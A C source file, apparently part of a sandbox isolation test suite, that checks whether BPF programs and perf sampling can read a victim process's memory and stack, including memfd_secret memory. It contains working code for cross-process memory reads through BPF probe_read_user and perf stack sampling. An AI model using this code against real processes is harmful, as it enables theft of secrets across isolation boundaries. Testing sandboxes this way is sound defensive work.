/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The kernel made to read another process's memory: BPF and perf.
 */
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attack.h"

#define READ_SIZE 40
#define PERF_SIZE ((size_t)65 * 4096)

#define INSN(c, d, s, o, i)              \
	((struct bpf_insn){ .code = (c), \
	    .dst_reg = (d),              \
	    .src_reg = (s),              \
	    .off = (o),                  \
	    .imm = (i) })

static int
bpf(int cmd, union bpf_attr *a)
{
	return (int)syscall(SYS_bpf, cmd, a, sizeof(*a));
}

static int
make_map(void)
{
	union bpf_attr a = { 0 };

	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 64;
	a.max_entries = 1;
	return bpf(BPF_MAP_CREATE, &a);
}

bool
bpf_works(void)
{
	auto_close int fd = make_map();

	return fd >= 0;
}

/* In the victim's context: copies its memory into the map. */
static int
make_program(uint32_t type, uint32_t attach_type, const struct victim *v,
    uint64_t address, int map)
{
	const struct bpf_insn code[] = {
		INSN(BPF_JMP | BPF_CALL, 0, 0, 0,
		    BPF_FUNC_get_current_pid_tgid),
		INSN(BPF_ALU64 | BPF_RSH | BPF_K, 0, 0, 0, 32),
		INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 6, v->pid),
		INSN(BPF_LD | BPF_DW | BPF_IMM, 1, BPF_PSEUDO_MAP_VALUE, 0,
		    map),
		INSN(0, 0, 0, 0, 0),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, READ_SIZE),
		INSN(BPF_LD | BPF_DW | BPF_IMM, 3, 0, 0, (int32_t)address),
		INSN(0, 0, 0, 0, (int32_t)(address >> 32)),
		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 1),
		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	union bpf_attr a = { 0 };

	a.prog_type = type;
	a.expected_attach_type = attach_type;
	a.insns = (uintptr_t)code;
	a.insn_cnt = ARRAY_LEN(code);
	a.license = (uintptr_t) "GPL";
	return bpf(BPF_PROG_LOAD, &a);
}

static bool
map_has_marker(int map)
{
	char value[65] = { 0 };
	union bpf_attr a = { 0 };
	uint32_t zero = 0;

	a.map_fd = (uint32_t)map;
	a.key = (uintptr_t)&zero;
	a.value = (uintptr_t)value;
	return bpf(BPF_MAP_LOOKUP_ELEM, &a) == 0 &&
	    strcmp(value, RAM_MARKER) == 0;
}

static bool
read_by_tracepoint(const struct victim *v, uint64_t address)
{
	auto_close int map = make_map(), program = -1, link = -1;
	union bpf_attr a = { 0 };

	if (map < 0)
		return false;
	program =
	    make_program(BPF_PROG_TYPE_RAW_TRACEPOINT, 0, v, address, map);
	a.raw_tracepoint.name = (uintptr_t) "sys_enter";
	a.raw_tracepoint.prog_fd = (uint32_t)program;
	link = program < 0 ? -1 : bpf(BPF_RAW_TRACEPOINT_OPEN, &a);
	if (link < 0)
		return false;
	(void)usleep(300000);
	return map_has_marker(map);
}

static bool
read_by_cgroup(uint32_t type, uint32_t attach_type, const struct victim *v,
    uint64_t address)
{
	auto_close int map = make_map(), program = -1;
	auto_close int group = open("/cg", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	union bpf_attr a = { 0 };
	bool found;

	if (map < 0)
		return false;
	program = make_program(type, attach_type, v, address, map);
	a.target_fd = (uint32_t)group;
	a.attach_bpf_fd = (uint32_t)program;
	a.attach_type = attach_type;
	a.attach_flags = BPF_F_ALLOW_MULTI;
	if (program < 0 || bpf(BPF_PROG_ATTACH, &a) != 0)
		return false;
	(void)usleep(300000);
	found = map_has_marker(map);
	(void)bpf(BPF_PROG_DETACH, &a);
	return found;
}

static bool
load_works(uint32_t type, uint32_t attach_type)
{
	/* No map, no call: even the harmless is refused. */
	const struct bpf_insn code[] = {
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 1),
		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	union bpf_attr a = { 0 };
	auto_close int fd = -1;

	a.prog_type = type;
	a.expected_attach_type = attach_type;
	a.insns = (uintptr_t)code;
	a.insn_cnt = ARRAY_LEN(code);
	a.license = (uintptr_t) "GPL";
	fd = bpf(BPF_PROG_LOAD, &a);
	return fd >= 0;
}

static bool
command_works(int cmd)
{
	union bpf_attr a = { 0 };

	return bpf(cmd, &a) == 0 || (errno != EPERM && errno != EACCES);
}

static bool
command32_works(void)
{
	return call32(357, BPF_PROG_GET_NEXT_ID, 0, 0) == 0 || errno != EPERM;
}

void
attack_bpf(const struct scene *s)
{
	static const char *const commands[] = { [BPF_PROG_GET_NEXT_ID] =
						    "BPF_PROG_GET_NEXT_ID",
		[BPF_LINK_GET_NEXT_ID] = "BPF_LINK_GET_NEXT_ID",
		[BPF_LINK_GET_FD_BY_ID] = "BPF_LINK_GET_FD_BY_ID",
		[BPF_LINK_DETACH] = "BPF_LINK_DETACH",
		[BPF_LINK_UPDATE] = "BPF_LINK_UPDATE",
		[BPF_OBJ_GET] = "BPF_OBJ_GET",
		[BPF_MAP_GET_FD_BY_ID] = "BPF_MAP_GET_FD_BY_ID",
		[BPF_BTF_LOAD] = "BPF_BTF_LOAD" };
	struct victim v = new_victim(s);
	size_t i;

	attack(s, WORKS, bpf_works(), "bpf(): making a map");
	attack(s, WORKS, read_by_tracepoint(&v, v.ram),
	    "a raw tracepoint reads anonymous memory");
	attack(s, WORKS, read_by_tracepoint(&v, v.secret),
	    "a raw tracepoint reads memfd_secret");
	attack(s, WORKS,
	    read_by_cgroup(BPF_PROG_TYPE_CGROUP_DEVICE, BPF_CGROUP_DEVICE, &v,
		v.ram),
	    "a cgroup/device program reads anonymous memory");
	attack(s, WORKS,
	    load_works(BPF_PROG_TYPE_CGROUP_DEVICE, BPF_CGROUP_DEVICE),
	    "an empty cgroup/device program");
	attack(s, WORKS,
	    load_works(BPF_PROG_TYPE_CGROUP_SKB, BPF_CGROUP_INET_INGRESS),
	    "an empty cgroup/skb program");
	attack(s, WORKS, load_works(BPF_PROG_TYPE_SOCKET_FILTER, 0),
	    "an empty socket filter");
	attack(s, WORKS, command32_works(),
	    "a bpf() command as a 32-bit program");
	for (i = 0; i < ARRAY_LEN(commands); i++)
		if (commands[i] != NULL)
			attack(s, WORKS, command_works((int)i), commands[i]);
}

/* --- perf ----------------------------------------------------------------- */

static int
perf_open(pid_t pid, int cpu)
{
	struct perf_event_attr a = { 0 };

	a.size = sizeof(a);
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_CONTEXT_SWITCHES;
	a.sample_period = 1;
	a.sample_type =
	    PERF_SAMPLE_TID | PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER;
	a.sample_regs_user = 1 << 7; /* the stack pointer */
	a.sample_stack_user = 8192;
	a.wakeup_events = 1;
	return (int)syscall(SYS_perf_event_open, &a, pid, cpu, -1, 0);
}

static bool
perf_reads_stack(pid_t pid)
{
	auto_close int fd = perf_open(pid, -1);
	char *p;
	bool found;

	if (fd < 0)
		return false;
	p = mmap(NULL, PERF_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED)
		return false;
	(void)usleep(500000);
	found = memmem(p + 4096, PERF_SIZE - 4096, STACK_MARKER,
		    strlen(STACK_MARKER)) != NULL;
	(void)munmap(p, PERF_SIZE);
	return found;
}

void
attack_perf(const struct scene *s)
{
	struct victim v = new_victim(s);
	int fd;

	attack(s, WORKS, perf_reads_stack(v.pid), "perf samples of its stack");
	fd = perf_open(-1, 0);
	attack(s, WORKS, fd >= 0, "perf on a processor");
	close_p(&fd);
}
